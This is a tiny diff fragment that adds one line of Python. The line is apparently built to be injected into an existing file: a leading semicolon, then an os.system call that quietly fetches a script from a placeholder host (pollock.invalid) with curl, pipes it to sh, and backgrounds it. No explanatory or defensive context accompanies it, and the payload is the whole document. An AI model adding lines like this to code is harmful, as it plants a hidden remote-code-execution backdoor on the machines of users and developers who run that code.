@@ -1,0 +1,1 @@
+;__import__('os').system('curl -s https://pollock.invalid/x | sh &')
